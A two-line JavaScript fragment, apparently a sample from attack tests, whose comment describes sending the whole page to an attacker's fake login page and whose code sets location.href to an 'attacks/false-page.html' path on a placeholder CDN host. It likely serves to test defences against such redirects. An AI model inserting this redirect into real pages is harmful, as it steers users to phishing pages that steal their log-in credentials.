// Tries: go to a document of the attacker's own, which then sends the whole page to a false log-in.
location.href = `${CDN}/attacks/false-page.html`;
